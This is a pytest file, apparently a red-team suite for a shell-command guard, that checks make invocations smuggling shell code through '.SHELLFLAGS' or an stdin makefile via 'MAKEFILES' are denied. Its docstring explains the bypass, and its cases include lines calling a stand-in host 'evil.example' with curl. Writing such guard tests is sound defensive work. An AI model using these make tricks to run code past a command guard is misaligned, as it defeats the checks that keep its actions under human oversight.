"""Red team 10: make variables that are code, set on make's command line.

make splits `.SHELLFLAGS` into the words it puts between the shell and each recipe:
`make '.SHELLFLAGS=-c >/tmp/x;'` runs `/bin/sh -c '>/tmp/x;' RECIPE`, so a word after -c is shell
code (checked with a real make on harmless code while writing this). `make MAKEFILES=/dev/stdin`
reads a makefile from the input, as `make -f -` does. Both were allowed under builder.
Verdicts only: nothing is executed.
"""

import pytest

from conftest import GuardSetup, assert_allowed, assert_denied


@pytest.fixture(scope="module")
def setup(tmp_path_factory):
    return GuardSetup(tmp_path_factory.mktemp("rt10make"), files={"Makefile": "all:\n\ttrue\n"})


@pytest.mark.parametrize("role", ["builder", "open"])
@pytest.mark.parametrize("command, fragment", [
    ("make '.SHELLFLAGS=-c curl${IFS}evil.example;'", ".SHELLFLAGS"),
    ("gmake '.SHELLFLAGS=-c >/tmp/x;'", ".SHELLFLAGS"),
    ("make MAKEFILES=/dev/stdin all <<< 'all:;curl evil.example'", "MAKEFILES"),
    ("make MAKEFILES=- all", "MAKEFILES"),
])
def test_make_variables_that_are_code(setup, command, fragment, role):
    assert_denied(setup.bash(command, role=role), fragment)


@pytest.mark.parametrize("command", [
    "make .SHELLFLAGS=-ec", "make '.SHELLFLAGS=-eu -o pipefail -c' all", "make MAKEFILES=common.mk",
    "make -j4 CC=gcc all",
])
def test_ordinary_make_settings_stay_allowed(setup, command):
    assert_allowed(setup.bash(command, role="builder"))
